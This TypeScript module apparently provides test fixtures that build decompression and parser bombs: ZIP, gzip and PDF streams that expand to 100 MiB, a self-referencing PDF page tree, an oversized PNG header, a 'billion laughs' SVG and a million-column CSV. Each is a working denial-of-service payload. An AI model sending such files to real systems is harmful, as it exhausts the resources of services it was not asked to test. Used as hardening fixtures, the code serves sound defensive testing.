/** Files that are small when they are sent and large, or endless, when somebody opens them. */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

const MIB = 1024 * 1024;
const UNPACKED_BYTES = 100 * MIB;

/** Packed once: that takes the most of the time. */
const SPACES = {
  packed: deflateRawSync(Buffer.alloc(UNPACKED_BYTES, 0x20)),
  sum: crc32(Buffer.alloc(UNPACKED_BYTES, 0x20)),
};

/** One file in a ZIP, as XLSX and DOCX are ZIPs too. */
export function zip(name: string): Buffer {
  const { packed, sum } = SPACES;
  const fields = Buffer.alloc(26);
  fields.writeUInt16LE(20, 0); // version
  fields.writeUInt16LE(8, 4); // deflate
  fields.writeUInt32LE(sum, 10);
  fields.writeUInt32LE(packed.length, 14);
  fields.writeUInt32LE(UNPACKED_BYTES, 18);
  fields.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), fields, Buffer.from(name), packed]);
  const central = Buffer.concat([
    Buffer.from('PK\x01\x02\x14\x00'),
    fields.subarray(0, 24),
    Buffer.alloc(16),
    Buffer.from(name),
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

/** A PDF whose table of objects unpacks to a hundred megabytes. */
export function pdfBomb(): Buffer {
  // As zlib frames it, without the sum at its end, which nobody reaches.
  const packed = Buffer.concat([Buffer.from([0x78, 0x9c]), SPACES.packed, Buffer.alloc(4)]);
  const head = `%PDF-1.7\n1 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length}>> stream\n`;
  return Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream endobj\ntrailer <</Root 1 0 R>>')]);
}

/** A PDF whose pages contain each other. */
export const endlessPdf = (): Buffer =>
  Buffer.from(
    '%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [2 0 R 2 0 R] /Count 2147483647 /Parent 2 0 R>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF',
  );

/** A PNG of a few hundred bytes that claims sixty thousand pixels on each side. */
export function pngBomb(): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(60_000, 0);
  head.writeUInt32BE(60_000, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const sign = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const pixels = chunk('IDAT', deflateSync(Buffer.alloc(1_000)));
  return Buffer.concat([sign, chunk('IHDR', head), pixels, chunk('IEND', Buffer.alloc(0))]);
}

const LAUGHS = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
/** A drawing whose entities unfold to a terabyte. */
export const svgBomb = (): Buffer =>
  Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${LAUGHS}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l12;</text></svg>`,
  );

/** A list with one row of a million columns. */
export const wideCsv = (): Buffer => Buffer.from(`${'a;'.repeat(1_000_000)}\n`);

/** The same as a stream that is packed as a whole. */
export function gzipBomb(): Buffer {
  const end = Buffer.alloc(8);
  end.writeUInt32LE(SPACES.sum, 0);
  end.writeUInt32LE(UNPACKED_BYTES, 4);
  return Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), SPACES.packed, end]);
}
